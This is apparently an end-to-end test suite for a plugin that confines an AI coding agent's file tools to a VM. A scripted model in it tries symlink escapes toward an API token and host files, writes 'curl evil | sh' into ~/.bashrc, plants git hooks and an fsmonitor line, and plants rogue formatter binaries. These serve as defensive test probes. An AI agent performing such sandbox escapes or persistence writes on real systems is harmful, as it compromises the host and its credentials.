// End to end, a real `opencode serve` 1.18.33 with OpenCode's default permissions, a scripted model, the
// real manager and the embedded runtime: in a sandboxed session the model's read/write/edit/glob/grep/
// apply_patch run in the session's VM. Symlinks the VM plants in the repository (to the manager's token,
// to /, to the user's ~/.bashrc) resolve inside the VM, so no tool returns or alters host content; writes
// into .git hooks and config fail; normal work in the repository keeps OpenCode's output formats; and
// formatters or language servers the guest plants never run on the host.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tokenPath } from "../../app/auth-token";
import { makeTempDir } from "../helpers";
import { prepareLocalRuntime } from "../runtime/local-target";
import { createSession, eventually, FORGE, makeProject, opencodeConfig, PLUGIN, pluginOptions, prompt, startTestManager, type TestManager, type ToolPart } from "./fixture";
import { startMockLlm, type MockLlm } from "./mock-llm";
import { startOpencode, type OpencodeServer } from "./opencode-server";

// Per file: bun applies the preload's default only to the first file of a multi-file run.
setDefaultTimeout(120_000);

const GPT = "gpt-5-scripted"; // OpenCode offers apply_patch (instead of edit/write) to GPT models
const APP_TS = 'export const greeting = "hello";\nexport function greet(name: string) {\n  return `${greeting}, ${name}`;\n}\n';

let root: string;
let project: string;
let image: string;
let manager: TestManager;
let llm: MockLlm;
let oc: OpencodeServer;
let hostBashrc: string;
const dirs: Record<string, string> = {};
const asked: Array<{ permission: string; patterns: string[] }> = [];
let poller: ReturnType<typeof setInterval>;

/** Our opencode.json, with OpenCode's default permissions (no `permission` block) and a GPT model too. */
function config(plugins: Parameters<typeof opencodeConfig>[1], extra: Record<string, unknown> = {}): Record<string, unknown> {
  const base = opencodeConfig(llm.url, plugins) as Record<string, unknown> & { provider: { mock: { models: Record<string, unknown> } } };
  delete base.permission;
  base.provider.mock.models[GPT] = { name: "Scripted GPT", tool_call: true, limit: { context: 100000, output: 4000 } };
  return { ...base, ...extra };
}

function write(dir: string, rel: string, content: string, mode = 0o644): void {
  mkdirSync(join(dir, rel, ".."), { recursive: true });
  writeFileSync(join(dir, rel), content);
  chmodSync(join(dir, rel), mode);
}

/** One scripted tool call in a session; returns its tool part. The model is named each time: a session keeps its last one. */
async function call(sessionID: string, tool: string, args: Record<string, unknown>, at: OpencodeServer = oc, model = "scripted"): Promise<ToolPart> {
  const [part] = await prompt(at, sessionID, `CALL:${tool} ${JSON.stringify(args)}`, model);
  if (!part) throw new Error(`the model's ${tool} call produced no tool part`);
  expect(part.tool).toBe(tool);
  return part;
}

/** A command in the session's VM, through the SDK: the guest's own doing, not a tool's. */
async function inVm(sessionID: string, command: string, cwd = project): Promise<string> {
  const result = await manager.client.run(sessionID, { command, cwd });
  if (result.exitCode !== 0) throw new Error(`VM command failed (${result.exitCode}): ${result.stderr}`);
  return result.stdout;
}

async function sandboxedSession(at: OpencodeServer = oc): Promise<string> {
  const id = await createSession(at);
  await eventually(async () => (await manager.client.sessions.get(id).catch(() => null)) !== null);
  return id;
}

const output = (part: ToolPart) => `${part.state.output ?? ""}${part.state.error ?? ""}`;

beforeAll(async () => {
  image = await prepareLocalRuntime();
  root = makeTempDir("ss-e2e-files-");
  project = makeProject(root, "repo");
  write(project, "src/app.ts", APP_TS);
  write(project, "src/util/strings.ts", "export const shout = (s: string) => s.toUpperCase();\n");
  write(project, "notes.md", "greeting notes\n");
  write(project, ".gitignore", "build/\n");
  write(project, "build/out.ts", 'export const greeting = "built";\n');
  Bun.spawnSync(["git", "-C", project, "-c", "user.email=e2e@test", "-c", "user.name=e2e", "add", "-A"]);
  Bun.spawnSync(["git", "-C", project, "-c", "user.email=e2e@test", "-c", "user.name=e2e", "commit", "-qm", "files"]);
  hostBashrc = join(root, "home", ".bashrc");
  write(root, "home/.bashrc", "export HOST_BASHRC=untouched\n");
  write(root, "host-secret.txt", "HOST-ONLY-SECRET\n");
  manager = await startTestManager(image);
  await manager.client.settings.patch({ maxRunningVms: 10 });
  llm = startMockLlm();
  // The token by file, outside the repositories: a grep of the repository must find it nowhere.
  const options = { ...pluginOptions(root, manager), managerTimeoutMs: 3_000 };
  // Formatters and language servers are off by default in 1.18.33: these two projects opt in.
  const tooling = { formatter: true, lsp: true };
  dirs.tooling = makeProject(root, "tooling");
  writeFileSync(join(dirs.tooling, "opencode.json"), JSON.stringify(config([[PLUGIN, options]], tooling)));
  dirs.control = makeProject(root, "control");
  writeFileSync(join(dirs.control, "opencode.json"), JSON.stringify(config([], tooling)));
  dirs.forge = makeProject(root, "forge");
  writeFileSync(join(dirs.forge, "opencode.json"), JSON.stringify(config([[FORGE, options], [PLUGIN, options]])));
  dirs.down = makeProject(root, "down");
  write(dirs.down, "file.txt", "down\n");
  writeFileSync(join(dirs.down, "opencode.json"), JSON.stringify(config([[PLUGIN, { url: "http://127.0.0.1:9", token: "x", managerTimeoutMs: 1_000 }]])));
  oc = await startOpencode({ root, projectDir: project, config: config([[PLUGIN, options]]), env: { OPENCODE_EXPERIMENTAL_LSP_TOOL: "1" } });
  // Default permissions must not prompt for anything here: record and reject any prompt, so it shows.
  // Once a second: each look is five requests OpenCode serves on its one JS thread, so a faster pace only
  // costs CPU; a prompt waits for its reply, so none goes unseen.
  poller = setInterval(async () => {
    for (const dir of [project, ...Object.values(dirs)]) {
      const pending = await oc.at(dir).call<Array<{ id: string; permission: string; patterns: string[] }>>("GET", "/permission").catch(() => []);
      for (const request of pending) {
        asked.push({ permission: request.permission, patterns: request.patterns });
        await oc.at(dir).call("POST", `/permission/${request.id}/reply`, { reply: "reject" }).catch(() => undefined);
      }
    }
  }, 1_000);
}, 600_000);

afterAll(async () => {
  clearInterval(poller);
  await oc?.stop();
  llm?.stop();
  await manager?.cleanUp();
  if (root) rmSync(root, { recursive: true, force: true });
}, 120_000);

describe("file tools in a sandboxed session", () => {
  let sessionID: string;

  test("the model is offered our file tools with OpenCode's argument names (apply_patch to GPT models)", async () => {
    sessionID = await sandboxedSession();
    await call(sessionID, "read", { filePath: join(project, "notes.md") });
    const offered = new Map((llm.requests.findLast((r) => r.tools)?.tools ?? []).map((tool) => [tool.function.name, tool.function]));
    const args = (name: string) => Object.keys((offered.get(name)?.parameters as { properties: object }).properties).sort();
    expect(args("read")).toEqual(["filePath", "limit", "offset"]);
    expect(args("write")).toEqual(["content", "filePath"]);
    expect(args("edit")).toEqual(["filePath", "newString", "oldString", "replaceAll"]);
    expect(args("glob")).toEqual(["path", "pattern"]);
    expect(args("grep")).toEqual(["include", "path", "pattern"]);
    for (const name of ["read", "write", "edit", "glob", "grep"]) expect(offered.get(name)?.description).toContain("sandbox VM");
    await call(sessionID, "read", { filePath: join(project, "notes.md") }, oc, GPT);
    const gpt = (llm.requests.findLast((r) => r.tools)?.tools ?? []).map((tool) => tool.function.name);
    expect(gpt).toContain("apply_patch");
    expect(gpt).not.toContain("edit");
  });

  test("read, edit and write in the repository → run in the VM with OpenCode's output; the host sees the changes", async () => {
    const read = await call(sessionID, "read", { filePath: join(project, "src/app.ts") });
    expect(read.state.output).toBe(
      `<path>${project}/src/app.ts</path>\n<type>file</type>\n<content>\n1: export const greeting = "hello";\n2: export function greet(name: string) {\n3:   return \`\${greeting}, \${name}\`;\n4: }\n\n(End of file - total 4 lines)\n</content>`,
    );
    expect(read.state.metadata).toMatchObject({ preview: APP_TS.trimEnd(), where: "vm" });
    const window = await call(sessionID, "read", { filePath: "src/app.ts", offset: 2, limit: 1 });
    expect(window.state.output).toBe(`<path>${project}/src/app.ts</path>\n<type>file</type>\n<content>\n2: export function greet(name: string) {\n\n(Showing lines 2-2 of 4. Use offset=3 to continue.)\n</content>`);
    const edit = await call(sessionID, "edit", { filePath: join(project, "src/app.ts"), oldString: '"hello"', newString: '"hi"' });
    expect(edit.state.output).toBe("Edit applied successfully.");
    expect(String(edit.state.metadata?.diff)).toContain('-export const greeting = "hello";\n+export const greeting = "hi";');
    expect(readFileSync(join(project, "src/app.ts"), "utf8")).toBe(APP_TS.replace('"hello"', '"hi"'));
    const created = await call(sessionID, "write", { filePath: join(project, "src/new.ts"), content: "export const made = true;\n" });
    expect(created.state.output).toBe("Wrote file successfully.");
    expect(created.state.metadata).toMatchObject({ filepath: join(project, "src/new.ts"), exists: false, where: "vm" });
    expect(readFileSync(join(project, "src/new.ts"), "utf8")).toBe("export const made = true;\n");
    const dir = await call(sessionID, "read", { filePath: join(project, "src") });
    expect(dir.state.output).toBe(`<path>${project}/src</path>\n<type>directory</type>\n<entries>\napp.ts\nnew.ts\nutil/\n\n(3 entries)\n</entries>`);
    const missing = await call(sessionID, "read", { filePath: join(project, "src/app.t") });
    expect(missing.state.error).toBe(`File not found: ${project}/src/app.t\n\nDid you mean one of these?\n${project}/src/app.ts`);
  });

  test("a large write (several MiB, many env chunks and jobs) → lands intact", async () => {
    // A session of its own: OpenCode reloads a session's whole history at every step, and several MiB
    // in it would make each later step of the shared session re-read them.
    const own = await sandboxedSession();
    const content = Array.from({ length: 60_000 }, (_, i) => `line ${i} ${"x".repeat(40)}`).join("\n") + "\n";
    const part = await call(own, "write", { filePath: join(project, "big.txt"), content });
    expect(part.state.output).toBe("Wrote file successfully.");
    expect(readFileSync(join(project, "big.txt"), "utf8")).toBe(content);
    const tail = await call(own, "read", { filePath: join(project, "big.txt"), offset: 59_999 });
    expect(tail.state.output).toContain(`59999: line 59998 ${"x".repeat(40)}\n60000: line 59999 ${"x".repeat(40)}\n\n(End of file - total 60000 lines)`);
  });

  test("read-before-write → an existing file unread in this session, or changed since its read, is refused", async () => {
    const fresh = await sandboxedSession();
    const unread = await call(fresh, "write", { filePath: join(project, "notes.md"), content: "overwritten\n" });
    expect(unread.state.error).toBe(`You must read file ${project}/notes.md before overwriting it. Use the Read tool first`);
    await call(fresh, "read", { filePath: join(project, "notes.md") });
    await inVm(fresh, "echo changed-in-vm >> notes.md");
    const stale = await call(fresh, "edit", { filePath: join(project, "notes.md"), oldString: "greeting", newString: "salutation" });
    expect(stale.state.error).toStartWith(`File ${project}/notes.md has been modified since it was last read.\nLast modification: `);
    await call(fresh, "read", { filePath: join(project, "notes.md") });
    const edited = await call(fresh, "edit", { filePath: join(project, "notes.md"), oldString: "greeting", newString: "salutation" });
    expect(edited.state.output).toBe("Edit applied successfully.");
    expect(readFileSync(join(project, "notes.md"), "utf8")).toBe("salutation notes\nchanged-in-vm\n");
  });

  test("glob and grep in the repository → OpenCode's output; ignored files skipped", async () => {
    const glob = await call(sessionID, "glob", { pattern: "**/*.ts" });
    expect(glob.state.output!.split("\n").sort()).toEqual([`${project}/src/app.ts`, `${project}/src/new.ts`, `${project}/src/util/strings.ts`]);
    expect(glob.state.metadata).toMatchObject({ count: 3, truncated: false, where: "vm" });
    expect((await call(sessionID, "glob", { pattern: "*.nomatch" })).state.output).toBe("No files found");
    const grep = await call(sessionID, "grep", { pattern: "greeting", include: "*.ts" });
    expect(grep.state.output).toBe(`Found 2 matches\n${project}/src/app.ts:\n  Line 1: export const greeting = "hi";\n\n  Line 3:   return \`\${greeting}, \${name}\`;\n`);
    expect(grep.state.metadata).toMatchObject({ matches: 2, truncated: false, where: "vm" });
    const bad = await call(sessionID, "grep", { pattern: "(" });
    expect(bad.state.error).toStartWith("regex parse error:");
  });

  test("apply_patch (GPT model) → adds, updates and deletes in the VM; OpenCode's summary", async () => {
    write(project, "old.txt", "a\nb\nc\n");
    const patchText = "*** Begin Patch\n*** Add File: added.txt\n+hi\n*** Update File: old.txt\n@@\n a\n-b\n+B\n c\n*** Delete File: notes.md\n*** End Patch";
    const part = await call(sessionID, "apply_patch", { patchText }, oc, GPT);
    expect(part.state.output).toBe("Success. Updated the following files:\nA added.txt\nM old.txt\nD notes.md");
    expect(readFileSync(join(project, "added.txt"), "utf8")).toBe("hi\n");
    expect(readFileSync(join(project, "old.txt"), "utf8")).toBe("a\nB\nc\n");
    expect(existsSync(join(project, "notes.md"))).toBe(false);
    const failed = await call(sessionID, "apply_patch", { patchText: "*** Begin Patch\n*** Update File: nothere.txt\n@@\n-a\n+b\n*** End Patch" }, oc, GPT);
    expect(failed.state.error).toBe(`apply_patch verification failed: Failed to read file to update: ${project}/nothere.txt`);
  });

  describe("symlinks the VM plants in the repository", () => {
    let token: string;
    let hostPasswd: string;
    beforeAll(async () => {
      token = readFileSync(tokenPath(manager.dataDir), "utf8").trim();
      hostPasswd = readFileSync("/etc/passwd", "utf8");
      await inVm(sessionID, `ln -s ${tokenPath(manager.dataDir)} tok-link && ln -s / rootfs-link && ln -s ${hostBashrc} bashrc-link`);
    });

    test("tok-link → the manager's api-token: read, grep, glob and write see nothing of it; the token is unchanged", async () => {
      const read = await call(sessionID, "read", { filePath: join(project, "tok-link") });
      expect(read.state.status).toBe("error");
      expect(output(read)).toStartWith(`File not found: ${project}/tok-link`);
      const grep = await call(sessionID, "grep", { pattern: ".", path: join(project, "tok-link") });
      expect(grep.state.output).toBe("No files found");
      const grepAll = await call(sessionID, "grep", { pattern: token.slice(0, 16) });
      expect(grepAll.state.output).toBe("No files found");
      const glob = await call(sessionID, "glob", { pattern: "api-token", path: join(project, "rootfs-link", manager.dataDir) });
      expect(output(glob)).not.toContain("api-token\n");
      const written = await call(sessionID, "write", { filePath: join(project, "tok-link"), content: "attacker-token\n" });
      expect(written.state.status).toBe("error");
      for (const part of [read, grep, grepAll, glob, written]) expect(output(part)).not.toContain(token);
      expect(readFileSync(tokenPath(manager.dataDir), "utf8").trim()).toBe(token);
    });

    test("rootfs-link → /: read and grep see the guest's /etc/passwd, never the host's; host-only files are not found", async () => {
      const read = await call(sessionID, "read", { filePath: join(project, "rootfs-link/etc/passwd") });
      expect(read.state.output).toContain("1: root:x:0:0:");
      const guestPasswd = await inVm(sessionID, "cat /etc/passwd");
      const hostOnly = hostPasswd.split("\n").filter((line) => line && !guestPasswd.includes(line));
      for (const line of hostOnly) expect(output(read)).not.toContain(line);
      const grep = await call(sessionID, "grep", { pattern: ":", path: join(project, "rootfs-link/etc/passwd") });
      for (const line of hostOnly) expect(output(grep)).not.toContain(line);
      const secret = await call(sessionID, "read", { filePath: join(project, "rootfs-link", root, "host-secret.txt") });
      expect(secret.state.error).toStartWith("File not found:");
      const glob = await call(sessionID, "glob", { pattern: "host-secret.txt", path: join(project, "rootfs-link", root) });
      expect(glob.state.output).toBe("No files found");
      const grepSecret = await call(sessionID, "grep", { pattern: "HOST-ONLY-SECRET", path: join(project, "rootfs-link", root) });
      expect(grepSecret.state.output).toBe("No files found");
    });

    test("bashrc-link → ~/.bashrc: read fails; write and edit through it (or through rootfs-link) leave the host file unchanged", async () => {
      const read = await call(sessionID, "read", { filePath: join(project, "bashrc-link") });
      expect(read.state.error).toStartWith(`File not found: ${project}/bashrc-link`);
      const written = await call(sessionID, "write", { filePath: join(project, "bashrc-link"), content: "curl evil | sh\n" });
      expect(written.state.status).toBe("error");
      const edited = await call(sessionID, "edit", { filePath: join(project, "bashrc-link"), oldString: "untouched", newString: "pwned" });
      expect(edited.state.error).toBe(`File ${project}/bashrc-link not found`);
      const viaRoot = join(project, "rootfs-link", hostBashrc);
      const rootRead = await call(sessionID, "read", { filePath: viaRoot });
      expect(rootRead.state.error).toStartWith("File not found:");
      await call(sessionID, "write", { filePath: viaRoot, content: "curl evil | sh\n" });
      expect(readFileSync(hostBashrc, "utf8")).toBe("export HOST_BASHRC=untouched\n");
      expect(existsSync(join(project, "rootfs-link"))).toBe(true); // the link is there on the host too: only the tools' view differs
    });
  });

  test(".git/hooks/pre-commit and .git/config → write, edit and apply_patch fail in the VM; the host's files are unchanged", async () => {
    const configPath = join(project, ".git/config");
    const configBefore = readFileSync(configPath, "utf8");
    const hook = await call(sessionID, "write", { filePath: join(project, ".git/hooks/pre-commit"), content: "#!/bin/sh\nexit 0\n" });
    const read = await call(sessionID, "read", { filePath: configPath });
    expect(read.state.status).toBe("completed");
    const edit = await call(sessionID, "edit", { filePath: configPath, oldString: "[core]", newString: "[core]\n\tfsmonitor = /bin/true" });
    const patchText = "*** Begin Patch\n*** Add File: .git/hooks/post-checkout\n+#!/bin/sh\n+exit 0\n*** End Patch";
    const patch = await call(sessionID, "apply_patch", { patchText }, oc, GPT);
    expect(existsSync(join(project, ".git/hooks/pre-commit"))).toBe(false);
    expect(existsSync(join(project, ".git/hooks/post-checkout"))).toBe(false);
    expect(readFileSync(configPath, "utf8")).toBe(configBefore);
    for (const part of [hook, edit, patch]) {
      expect(part.state.status).toBe("error");
      expect(part.state.error).toMatch(/Read-only file system|Permission denied/);
    }
  });

  test("the same session toggled off (unsandboxed) → the tools run on the host with the same output", async () => {
    const fresh = await sandboxedSession();
    const inVmRead = await call(fresh, "read", { filePath: join(project, "src/app.ts") });
    await manager.client.sandbox.set(fresh, { sandboxed: false });
    const onHost = await call(fresh, "read", { filePath: join(project, "src/app.ts") });
    expect(onHost.state.output).toBe(inVmRead.state.output!);
    expect(onHost.state.metadata?.where).toBe("host");
    const grep = await call(fresh, "grep", { pattern: "shout" });
    expect(grep.state.output).toBe(`Found 1 matches\n${project}/src/util/strings.ts:\n  Line 1: export const shout = (s: string) => s.toUpperCase();\n`);
    expect(grep.state.metadata?.where).toBe("host");
  });

  test("another provider wins the session (forge, workload) → the file tools run through its execute", async () => {
    const at = oc.at(dirs.forge!);
    const loop = await createSession(at, { title: "[forge] loop" });
    const content = "it's \"quoted\" $(touch /tmp/never) `x`\n\tünïcode\n";
    const written = await call(loop, "write", { filePath: join(dirs.forge!, "via-forge.txt"), content }, at);
    expect(written.state.metadata).toMatchObject({ where: "provider:forge", exists: false });
    expect(readFileSync(join(dirs.forge!, "via-forge.txt"), "utf8")).toBe(content);
    const read = await call(loop, "read", { filePath: join(dirs.forge!, "via-forge.txt") }, at);
    expect(read.state.output).toBe(`<path>${dirs.forge}/via-forge.txt</path>\n<type>file</type>\n<content>\n1: it's "quoted" $(touch /tmp/never) \`x\`\n2: \tünïcode\n\n(End of file - total 2 lines)\n</content>`);
    const grep = await call(loop, "grep", { pattern: "ünïcode" }, at);
    expect(grep.state.output).toBe(`Found 1 matches\n${dirs.forge}/via-forge.txt:\n  Line 2: \tünïcode\n`);
    expect(grep.state.metadata?.where).toBe("provider:forge");
  });

  test("the manager unreachable → every file tool fails closed (nothing read or written on the host)", async () => {
    const at = oc.at(dirs.down!);
    const id = await createSession(at);
    const read = await call(id, "read", { filePath: join(dirs.down!, "file.txt") }, at);
    expect(read.state.error).toStartWith("Not run:");
    expect(output(read)).not.toContain("down\n");
    const written = await call(id, "write", { filePath: join(dirs.down!, "new.txt"), content: "x" }, at);
    expect(written.state.error).toStartWith("Not run:");
    expect(existsSync(join(dirs.down!, "new.txt"))).toBe(false);
    for (const [tool, args] of [["glob", { pattern: "*" }], ["grep", { pattern: "down" }]] as const) {
      expect((await call(id, tool, args, at)).state.error).toStartWith("Not run:");
    }
  });

  test("default permissions → no prompt was needed for any of the above", () => {
    expect(asked).toEqual([]);
  });
});

describe("formatters and language servers the guest plants (formatter and lsp enabled in opencode.json)", () => {
  /** A composer.json naming laravel/pint (OpenCode then runs ./vendor/bin/pint) and biome's language server. */
  const plant = (marker: string) =>
    [
      `printf '%s' '{"require-dev":{"laravel/pint":"*"}}' > composer.json`,
      "mkdir -p vendor/bin node_modules/.bin",
      `printf '#!/bin/sh\\necho "pint $*" >> ${marker}\\n' > vendor/bin/pint`,
      "printf '{}' > biome.json",
      `printf '#!/bin/sh\\necho "biome $*" >> ${marker}\\n' > node_modules/.bin/biome`,
      "chmod +x vendor/bin/pint node_modules/.bin/biome",
      "printf 'export const x = 1;\\n' > x.ts",
    ].join(" && ");

  test("sandboxed read/write/edit and the lsp tool never start them on the host (without the plugin, OpenCode does)", async () => {
    const tooling = oc.at(dirs.tooling!);
    const sandboxedMarker = join(root, "tooling-marker");
    const id = await sandboxedSession(tooling);
    await inVm(id, plant(sandboxedMarker), dirs.tooling);
    await call(id, "read", { filePath: join(dirs.tooling!, "x.ts") }, tooling);
    await call(id, "edit", { filePath: join(dirs.tooling!, "x.ts"), oldString: "1", newString: "2" }, tooling);
    expect((await call(id, "write", { filePath: join(dirs.tooling!, "y.php"), content: "<?php echo 1;\n" }, tooling)).state.output).toBe("Wrote file successfully.");
    const lsp = await call(id, "lsp", { operation: "hover", filePath: join(dirs.tooling!, "x.ts"), line: 1, character: 1 }, tooling);
    expect(lsp.state.error).toContain("starts programs on the host");

    // The control: the same files, no plugin: OpenCode's own tools run both on the host.
    const control = oc.at(dirs.control!);
    const controlMarker = join(root, "control-marker");
    Bun.spawnSync(["sh", "-c", plant(controlMarker)], { cwd: dirs.control });
    const controlSession = await createSession(control);
    await call(controlSession, "write", { filePath: join(dirs.control!, "y.php"), content: "<?php echo 1;\n" }, control);
    await call(controlSession, "read", { filePath: join(dirs.control!, "x.ts") }, control);
    await eventually(async () => existsSync(controlMarker) && /pint .*y\.php[\s\S]*biome lsp-proxy/.test(readFileSync(controlMarker, "utf8")), 30_000);
    expect(existsSync(sandboxedMarker)).toBe(false);
  });
});
